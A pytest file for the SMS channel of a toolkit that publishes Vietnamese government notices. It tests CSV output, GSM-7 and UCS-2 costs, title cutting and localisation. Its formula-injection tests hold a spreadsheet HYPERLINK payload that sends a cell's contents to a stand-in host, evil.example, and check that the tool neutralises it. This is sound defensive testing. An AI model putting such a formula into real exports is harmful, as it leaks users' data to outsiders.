"""The SMS channel: outbox/sms/messages.csv, one message per live unit that asks for SMS."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import unicodedata
from pathlib import Path

import pytest

from tests.conftest import EXAMPLE, NOTICE, PROCEDURE, write_unit
from toolkit.smstext import cost, to_gsm7

TODAY = "2021-03-31"
HEADER = ["id", "text", "encoding", "units", "segments"]


def build(run, project: Path) -> tuple[int, str, str]:
    return run("build", "--project", str(project), "--channel", "sms", "--today", TODAY)


def read_csv(project: Path) -> tuple[list[str], list[dict[str, str]]]:
    data = (project / "outbox" / "sms" / "messages.csv").read_bytes()
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    return rows[0], [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def messages(run, project: Path) -> dict[str, str]:
    status, _, err = build(run, project)
    assert status == 0, err
    return {row["id"]: row["text"] for row in read_csv(project)[1]}


def with_field(unit: str, line: str) -> str:
    """The unit text with one more front-matter line after `publish:`."""
    head, rest = unit.split("publish:", 1)
    date, tail = rest.split("\n", 1)
    return f"{head}publish:{date}\n{line}\n{tail}"


def set_sms_option(project: Path, old: str, new: str) -> None:
    toml = project / "toolkit.toml"
    text = toml.read_text(encoding="utf-8")
    assert old in text
    toml.write_text(text.replace(old, new), encoding="utf-8")


def has_marks(text: str) -> bool:
    return any(unicodedata.combining(c) for c in unicodedata.normalize("NFD", text)) \
        or "đ" in text.lower()


# --- the CSV of the fixture project ------------------------------------------

def test_build_writes_csv_with_exact_header(project: Path, run) -> None:
    status, _, err = build(run, project)
    assert status == 0, err
    header, _ = read_csv(project)
    assert header == HEADER


def test_csv_has_one_row_per_unit_that_asks_for_sms(project: Path, run) -> None:
    # The example (tan-phong) does not ask for SMS by its kind's default.
    assert sorted(messages(run, project)) == ["khai-sinh", "tong-dai-1022"]


def test_example_that_names_sms_gets_a_message(project: Path, run) -> None:
    write_unit(project, "tan-phong", with_field(EXAMPLE, "channels: [rss, sms]"))
    assert "tan-phong" in messages(run, project)


def test_procedure_without_sms_in_its_channels_gets_none(project: Path, run) -> None:
    write_unit(project, "khai-sinh", with_field(PROCEDURE, "channels: [rss]"))
    assert sorted(messages(run, project)) == ["tong-dai-1022"]


def test_default_messages_are_plain_ascii_in_one_gsm7_segment(project: Path, run) -> None:
    build(run, project)
    _, rows = read_csv(project)
    assert rows
    for row in rows:
        text = row["text"]
        assert text.isascii(), text
        assert not has_marks(text)
        assert row["encoding"] == "GSM-7"
        assert int(row["segments"]) == 1
        assert int(row["units"]) <= 160


def test_cost_columns_agree_with_cost_of_text(project: Path, run) -> None:
    build(run, project)
    _, rows = read_csv(project)
    for row in rows:
        price = cost(row["text"])
        assert (row["encoding"], int(row["units"]), int(row["segments"])) == \
            (price.encoding, price.units, price.segments)


def test_generated_messages_carry_hotline_and_link(project: Path, run) -> None:
    texts = messages(run, project)
    assert "1022" in texts["khai-sinh"]
    assert "dongnai.gov.vn/khai-sinh" in texts["khai-sinh"]
    assert "dongnai.gov.vn/tong-dai-1022" in texts["tong-dai-1022"]


def test_generated_message_is_made_from_title_without_diacritics(project: Path, run) -> None:
    assert "Dang ky khai sinh truc tuyen" in messages(run, project)["khai-sinh"]


def test_notice_uses_its_own_hotline(project: Path, run) -> None:
    write_unit(project, "tong-dai-1022",
               NOTICE.replace('hotline: "1022"', 'hotline: "0251 3822 123"'))
    assert "Hotline 0251 3822 123" in messages(run, project)["tong-dai-1022"]


def test_unit_with_own_link_uses_it_without_scheme(project: Path, run) -> None:
    write_unit(project, "khai-sinh",
               with_field(PROCEDURE, "link: https://dichvucong.gov.vn/khai-sinh"))
    text = messages(run, project)["khai-sinh"]
    assert text.endswith("dichvucong.gov.vn/khai-sinh")
    assert "https://" not in text


# --- which units are live -----------------------------------------------------

def test_unit_published_after_today_is_left_out(project: Path, run) -> None:
    write_unit(project, "khai-sinh", PROCEDURE.replace("2021-02-09", "2021-04-01"))
    assert sorted(messages(run, project)) == ["tong-dai-1022"]


def test_unit_published_today_is_in(project: Path, run) -> None:
    write_unit(project, "khai-sinh", PROCEDURE.replace("2021-02-09", TODAY))
    assert "khai-sinh" in messages(run, project)


def test_expired_unit_is_left_out(project: Path, run) -> None:
    write_unit(project, "khai-sinh", with_field(PROCEDURE, "expires: 2021-03-30"))
    assert sorted(messages(run, project)) == ["tong-dai-1022"]


# --- hand-written sms ---------------------------------------------------------

def test_hand_written_sms_is_used_without_diacritics(project: Path, run) -> None:
    sms = "Đăng ký khai sinh trực tuyến tại dichvucong.gov.vn – gọi “1022”"
    write_unit(project, "khai-sinh", with_field(PROCEDURE, f"sms: '{sms}'"))
    assert messages(run, project)["khai-sinh"] == \
        'Dang ky khai sinh truc tuyen tai dichvucong.gov.vn - goi "1022"'


def test_hand_written_sms_of_160_chars_passes_check(project: Path, run) -> None:
    write_unit(project, "khai-sinh", with_field(PROCEDURE, "sms: Đ" + "a" * 159))
    status, _, err = run("check", "--project", str(project))
    assert status == 0, err


def test_hand_written_sms_of_200_chars_fails_check_by_40(project: Path, run) -> None:
    # 200 characters, 200 septets once "Đ" becomes "D": 40 over the 160 of one SMS.
    write_unit(project, "khai-sinh", with_field(PROCEDURE, "sms: Đ" + "a" * 199))
    status, _, err = run("check", "--project", str(project))
    assert status == 1
    lines = [line for line in err.splitlines() if "khai-sinh.md" in line]
    assert len(lines) == 1
    assert " sms: " in lines[0]
    assert "40 characters too long" in lines[0]


def test_too_long_sms_counts_extension_chars_twice(project: Path, run) -> None:
    # 155 + 3 × "€" (2 septets each) = 161 septets: 1 over.
    write_unit(project, "khai-sinh", with_field(PROCEDURE, "sms: " + "a" * 155 + "€€€"))
    status, _, err = run("check", "--project", str(project))
    assert status == 1
    assert "1 character too long" in err


def test_too_long_sms_fails_build_but_others_are_written(project: Path, run) -> None:
    write_unit(project, "khai-sinh", with_field(PROCEDURE, "sms: Đ" + "a" * 199))
    status, _, err = build(run, project)
    assert status == 1
    assert "40 characters too long" in err
    header, rows = read_csv(project)
    assert header == HEADER
    assert [row["id"] for row in rows] == ["tong-dai-1022"]


def test_two_segments_allowed_lets_200_char_sms_pass(project: Path, run) -> None:
    set_sms_option(project, "segments = 1", "segments = 2")
    write_unit(project, "khai-sinh", with_field(PROCEDURE, "sms: Đ" + "a" * 199))
    status, _, err = run("check", "--project", str(project))
    assert status == 0, err
    status, _, err = build(run, project)
    assert status == 0, err
    row = {r["id"]: r for r in read_csv(project)[1]}["khai-sinh"]
    assert row["text"] == "D" + "a" * 199
    assert (row["encoding"], row["units"], row["segments"]) == ("GSM-7", "200", "2")


def test_two_segments_allowed_refuses_307_septets(project: Path, run) -> None:
    set_sms_option(project, "segments = 1", "segments = 2")
    write_unit(project, "khai-sinh", with_field(PROCEDURE, "sms: " + "a" * 307))
    status, _, err = run("check", "--project", str(project))
    assert status == 1
    assert "1 character too long" in err


def test_two_segments_allowed_refuses_text_that_splits_into_three(project: Path, run) -> None:
    set_sms_option(project, "segments = 1", "segments = 2")
    # 152 + "{" (2) + 152 = 306 septets, but 3 parts: the pair cannot straddle 153.
    write_unit(project, "khai-sinh",
               with_field(PROCEDURE, "sms: '" + "a" * 152 + "{" + "a" * 152 + "'"))
    status, _, _ = run("check", "--project", str(project))
    assert status == 1


# --- long titles --------------------------------------------------------------

LONG_TITLE = " ".join(["Hướng dẫn đăng ký khai sinh trực tuyến cho trẻ em"] * 3)


def long_unit() -> str:
    return PROCEDURE.replace('"Đăng ký khai sinh trực tuyến"', f'"{LONG_TITLE}"').replace(
        '"Cha mẹ nộp hồ sơ trên Cổng dịch vụ công, nhận kết quả qua bưu điện."',
        '"' + " ".join(["Cha mẹ nộp hồ sơ trên Cổng dịch vụ công."] * 8) + '"')


def test_long_title_and_summary_still_fit_one_segment(project: Path, run) -> None:
    write_unit(project, "khai-sinh", long_unit())
    assert len(LONG_TITLE) == 149
    build(run, project)
    row = {r["id"]: r for r in read_csv(project)[1]}["khai-sinh"]
    assert (row["encoding"], row["segments"]) == ("GSM-7", "1")
    assert int(row["units"]) <= 160
    assert row["text"].endswith("Hotline 1022. dongnai.gov.vn/khai-sinh")


def test_long_title_is_cut_at_a_word_with_ellipsis(project: Path, run) -> None:
    write_unit(project, "khai-sinh", long_unit())
    text = messages(run, project)["khai-sinh"]
    assert "..." in text
    kept = text.split("...", 1)[0]
    plain_title = to_gsm7(LONG_TITLE)
    assert len(kept) < len(plain_title)
    assert plain_title.startswith(kept + " ")  # cut where a word ends
    # and as late as fits: one more word would not.
    next_word = plain_title[len(kept) + 1:].split(" ", 1)[0]
    assert cost(text).units + 1 + len(next_word) > 160


def test_cut_title_ends_with_three_dots_not_four(project: Path, run) -> None:
    write_unit(project, "khai-sinh", long_unit())
    text = messages(run, project)["khai-sinh"]
    assert "...." not in text


def test_unit_with_very_long_link_never_gives_more_than_one_segment(project: Path,
                                                                    run) -> None:
    write_unit(project, "khai-sinh",
               with_field(PROCEDURE, "link: https://dongnai.gov.vn/" + "a" * 150))
    status, _, err = run("check", "--project", str(project))
    assert status == 1 and "no message made from the title fits" in err
    build(run, project)
    _, rows = read_csv(project)
    assert "khai-sinh" not in [r["id"] for r in rows]
    for row in rows:
        assert int(row["segments"]) == 1, row


# --- Unicode ------------------------------------------------------------------

def test_unicode_setting_keeps_diacritics_as_ucs2(project: Path, run) -> None:
    set_sms_option(project, "unicode = false", "unicode = true")
    build(run, project)
    _, rows = read_csv(project)
    assert sorted(r["id"] for r in rows) == ["khai-sinh", "tong-dai-1022"]
    for row in rows:
        assert has_marks(row["text"]), row
        assert row["encoding"] == "UCS-2"
        assert int(row["segments"]) == 1
        assert int(row["units"]) <= 70
        assert cost(row["text"]).units == int(row["units"])


def test_unicode_setting_keeps_hand_written_sms_as_written(project: Path, run) -> None:
    set_sms_option(project, "unicode = false", "unicode = true")
    write_unit(project, "khai-sinh", with_field(PROCEDURE, "sms: Đăng ký khai sinh, gọi 1022"))
    build(run, project)
    row = {r["id"]: r for r in read_csv(project)[1]}["khai-sinh"]
    assert (row["text"], row["encoding"], row["units"], row["segments"]) == \
        ("Đăng ký khai sinh, gọi 1022", "UCS-2", "27", "1")


def test_unicode_sms_over_70_units_fails_check(project: Path, run) -> None:
    set_sms_option(project, "unicode = false", "unicode = true")
    write_unit(project, "khai-sinh", with_field(PROCEDURE, "sms: Đ" + "ơ" * 74))
    status, _, err = run("check", "--project", str(project))
    assert status == 1
    assert "5 characters too long" in err


# --- manifest -------------------------------------------------------------------

def test_manifest_lists_csv_with_its_sha256_and_size(project: Path, run) -> None:
    build(run, project)
    folder = project / "outbox" / "sms"
    data = (folder / "messages.csv").read_bytes()
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["channel"] == "sms"
    items = {i["path"]: i for i in manifest["items"]}
    assert list(items) == ["messages.csv"]
    assert items["messages.csv"]["sha256"] == hashlib.sha256(data).hexdigest()
    assert items["messages.csv"]["bytes"] == len(data)


def test_rebuild_gives_the_same_bytes(project: Path, run) -> None:
    build(run, project)
    first = (project / "outbox" / "sms" / "messages.csv").read_bytes()
    status, _, _ = run("build", "--project", str(project), "--channel", "sms",
                       "--today", TODAY, "--force")
    assert status == 0
    assert (project / "outbox" / "sms" / "messages.csv").read_bytes() == first


# --- formula injection ----------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"Bam vao day")'


def test_an_sms_written_as_a_formula_is_no_formula_in_the_csv(project: Path, run) -> None:
    write_unit(project, "khai-sinh", with_field(PROCEDURE, f"sms: '{FORMULA}'"))
    texts = messages(run, project)
    # The cell Excel would run as a formula is plain text, and it is exactly what is sent.
    assert texts["khai-sinh"] == FORMULA[1:]
    from toolkit.channels.sms import read_messages

    assert dict(read_messages(project / "outbox") or [])["khai-sinh"] == FORMULA[1:]
    raw = (project / "outbox" / "sms" / "messages.csv").read_text(encoding="utf-8")
    assert "\nkhai-sinh,\"HYPERLINK(" in raw


@pytest.mark.parametrize("sms, sent", [
    ("+84 251 1022: goi de duoc huong dan", "84 251 1022: goi de duoc huong dan"),
    ("-2+3 ngay", "2+3 ngay"), ("@UBND: lich tiep dan", "UBND: lich tiep dan"),
    ("\t=1+1", "1+1"), (" = - @ Dang ky", "Dang ky"), ("＝1+1 ngay", "1+1 ngay"),
    ("Phi: =0 dong, -50%", "Phi: =0 dong, -50%"),  # only the start of a cell matters
])
def test_no_message_starts_like_a_formula(project: Path, run, sms: str, sent: str) -> None:
    write_unit(project, "khai-sinh", with_field(PROCEDURE, f"sms: {json.dumps(sms)}"))
    assert messages(run, project)["khai-sinh"] == sent


def test_an_sms_that_is_only_formula_signs_is_a_problem(project: Path, run) -> None:
    write_unit(project, "khai-sinh", with_field(PROCEDURE, "sms: '=+-@'"))
    status, _, err = run("check", "--project", str(project))
    assert status == 1 and re.search(r"khai-sinh\.md:\d+: sms: is empty once converted", err)


def test_a_bulletin_teaser_never_starts_like_a_formula() -> None:
    from datetime import date

    from toolkit.channels.sms import SmsTemplate, teaser
    from toolkit.jobs import Issue
    from toolkit.periods import week_of
    from toolkit.settings import load_settings

    settings = load_settings(Path(__file__).resolve().parents[2])
    template = SmsTemplate(patterns=("{title}",), bulletin=("=Ban tin so {number}: {link}",))
    issue = Issue(week_of(date(2021, 2, 8)), "https://dongnai.gov.vn/ban-tin.pdf", 1000)
    assert teaser(issue, settings, template).startswith("Ban tin so ")


# --- what the officer reads ---------------------------------------------------------

def test_the_review_page_notes_what_a_message_costs(project: Path, run) -> None:
    from toolkit import i18n
    from toolkit.channels.sms import CHANNEL

    text = messages(run, project)["khai-sinh"]
    shown = CHANNEL.shown([], project / "outbox")["khai-sinh"]
    assert [m.note for m in shown] == [f"SMS: GSM-7, {len(text)} characters, 1 message"]
    i18n.use("vi")
    shown = CHANNEL.shown([], project / "outbox")["khai-sinh"]
    assert [m.note for m in shown] == [f"SMS: GSM-7, {len(text)} ký tự, 1 tin"]


def test_a_too_long_sms_in_vietnamese_with_its_line(project: Path, run) -> None:
    from toolkit import i18n

    write_unit(project, "khai-sinh", with_field(PROCEDURE, "sms: Đ" + "a" * 199))
    i18n.use("vi")
    status, _, err = run("check", "--project", str(project))
    assert status == 1
    line = next(i for i, text in enumerate(with_field(PROCEDURE, "sms: x").splitlines(), 1)
                if text.startswith("sms:"))
    assert (f"content/khai-sinh.md:{line}: sms: dài quá 40 ký tự so với 1 tin nhắn SMS GSM-7 "
            "-> rút ngắn đi 40 ký tự") in err


def test_channel_labels_are_vietnamese_for_the_officer() -> None:
    from toolkit import i18n
    from toolkit.channels import channel
    from toolkit.i18n import _

    i18n.use("vi")
    assert {name: _(channel(name).label) for name in ("print", "video", "rss", "sms",
                                                       "bulletin")} == {
        "print": "tờ gấp và áp phích", "video": "video", "rss": "tin RSS",
        "sms": "tin nhắn SMS", "bulletin": "bản tin"}


def test_a_pattern_with_an_unknown_placeholder_names_the_known_ones(project: Path, run) -> None:
    template = project / "templates" / "sms" / "default.toml"
    template.write_text(template.read_text(encoding="utf-8").replace("{org}: {title}.",
                                                                     "{org}: {titel}.", 1),
                        encoding="utf-8")
    status, _, err = run("check", "--project", str(project))
    assert status == 1
    assert ("uses {titel}; the placeholders known are {hotline}, {link}, {org}, {summary}, "
            "{title}") in err
